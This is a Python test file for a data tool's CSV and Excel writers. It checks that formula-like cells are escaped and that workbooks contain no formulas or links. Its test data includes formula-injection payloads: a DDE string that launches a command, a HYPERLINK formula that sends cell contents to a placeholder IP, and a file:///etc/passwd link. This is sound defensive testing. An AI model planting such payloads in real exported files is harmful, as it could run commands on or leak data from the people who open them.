"""Texts that a spreadsheet would compute: the Excel Writer writes no formula, the CSV Writer escapes them if it is asked to."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from nodes.base import NodeError
from nodes.values.table import Table
from nodes.writers.csv_table import CsvWriter
from nodes.writers.excel import ExcelWriter
from tests.support import configure, run

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", " =1", "\n=1", "＝1", "＋1", "－1", "＠1",
    '=HYPERLINK("http://192.0.2.1/?x="&A1,"click")', "=WEBSERVICE(A1)", "-", "=", "--5", "+-5", "-5 000", "-1e",
)  # fmt: skip
HARMLESS = ("", "a", "1+1", "-5", "+49", "-1.5e-3", "-2,5", "'=1", "x=1", '"=1', "1=2", '"', "a,b", "1e5")
COMPUTED = "=+-@\t\r\n＝＋－＠"


def written(frame: pl.DataFrame, folder: Path, **settings: Any) -> list[list[str]]:
    """The cells of the file, as a program reads them that knows quotes."""
    (folder / "f.csv").unlink(missing_ok=True)
    run(CsvWriter(path="f.csv", **settings), {"table": Table.of(frame)}, folder)
    with (folder / "f.csv").open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file, delimiter=settings.get("delimiter", ",")))


@pytest.mark.parametrize("dtype", [pl.String, pl.Categorical, "enum"])
@pytest.mark.parametrize("settings", [{}, {"quote": "always"}, {"delimiter": ";", "line_end": "CRLF"}])
def test_what_would_be_computed_gets_an_apostrophe_and_nothing_else(dtype: Any, settings: dict[str, Any], tmp_path: Path) -> None:
    cells = [*FORMULAS, *HARMLESS]
    frame = pl.DataFrame({"=name": pl.Series(cells, dtype=pl.Enum(cells) if dtype == "enum" else dtype)})
    assert [row[0] if row else "" for row in written(frame, tmp_path, **settings)] == ["=name", *cells], "an option"
    wanted = [c if c in HARMLESS else f"'{c}" for c in cells]
    assert [row[0] if row else "" for row in written(frame, tmp_path, escape_formulas=True, **settings)] == ["'=name", *wanted]


@given(st.lists(st.text(alphabet="=+-@\t\r\n ＝'\"1a,;.e", max_size=6), min_size=1, max_size=20))
def test_no_cell_begins_like_a_formula(tmp_path_factory: pytest.TempPathFactory, cells: list[str]) -> None:
    frame = pl.DataFrame({"x": cells})
    for settings in ({}, {"quote": "always"}, {"quote": "non_numeric"}, {"delimiter": ";"}):
        folder = tmp_path_factory.mktemp("formulas")
        rows = written(frame, folder, escape_formulas=True, **settings)[1:]
        assert len(rows) == len(cells)
        for row in rows:
            cell = row[0] if row else ""
            assert cell[:1] not in COMPUTED or not cell or cell.lstrip("+-").replace(".", "", 1).replace(",", "", 1)[0].isdigit()


def test_numbers_and_missing_cells_stay(tmp_path: Path) -> None:
    frame = pl.DataFrame({"n": [-1, None], "x": [-0.5, 1.0], "t": [None, "=1"]})
    rows = written(frame, tmp_path, escape_formulas=True)
    assert rows == [["n", "x", "t"], ["-1", "-0.5", ""], ["", "1.0", "'=1"]]


def test_rows_are_appended_below_names_that_were_escaped(tmp_path: Path) -> None:
    frame = pl.DataFrame({"@a": ["=1"]})
    node = CsvWriter(path="f.csv", escape_formulas=True, if_exists="append")
    for _ in range(2):
        run(node, {"table": Table.of(frame)}, tmp_path)
    assert (tmp_path / "f.csv").read_text() == "'@a\n'=1\n'=1\n"


def test_without_quotes_it_cannot_be_promised(tmp_path: Path) -> None:
    with pytest.raises(NodeError, match="Without quotes") as caught:
        configure(
            CsvWriter(path="f.csv", escape_formulas=True, quote="never"), {"table": Table.of(pl.DataFrame({"a": [1]}))}, tmp_path
        )
    assert caught.value.setting == "quote"


def test_a_workbook_has_no_formulas_and_no_links(tmp_path: Path) -> None:
    frame = pl.DataFrame({"=A1": [*FORMULAS, "http://192.0.2.1/", "file:///etc/passwd", "{=1}"]})
    run(ExcelWriter(path="f.xlsx", autofilter=True), {"table": Table.of(frame)}, tmp_path)
    with zipfile.ZipFile(tmp_path / "f.xlsx") as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets"):
                sheet = archive.read(name).decode()
                assert "<f" not in sheet.replace("<filter", ""), name
                assert "hyperlink" not in sheet
            assert "externalLink" not in name
